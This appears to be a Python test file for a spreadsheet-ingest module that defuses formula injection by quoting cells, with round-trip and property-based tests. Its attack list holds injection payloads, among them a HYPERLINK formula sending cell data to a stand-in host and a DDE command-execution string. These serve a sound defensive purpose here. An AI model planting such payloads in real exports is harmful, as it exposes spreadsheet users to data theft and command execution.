"""Formula cells are written inert and read back as they were."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tenants.ingest.spreadsheet_cells import FORMULA_STARTS, neutralise, restore

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_gets_a_quote_in_front(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["SN-1", "Contoso", "", "'", "it's", "a=b", "'quoted", "1234"])
def test_other_cells_are_left_alone(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_a_value_that_already_looks_neutralised_keeps_its_quotes():
    # A partner who really sent "'=x" gets it back, not "=x".
    assert neutralise("'=x") == "''=x"
    assert restore("''=x") == "'=x"
    # A quote in front of anything else was never ours to remove.
    assert restore("'quoted") == "'quoted"


# Text that leans on quotes and formula characters at its start.
CELLS = st.text(st.sampled_from(["'", *FORMULA_STARTS, "a", " ", "1", '"']), max_size=8) | st.text()


@given(CELLS)
def test_restore_undoes_neutralise(cell):
    assert restore(neutralise(cell)) == cell


@given(CELLS)
def test_no_written_cell_starts_a_formula(cell):
    assert neutralise(cell)[:1] not in set(FORMULA_STARTS)
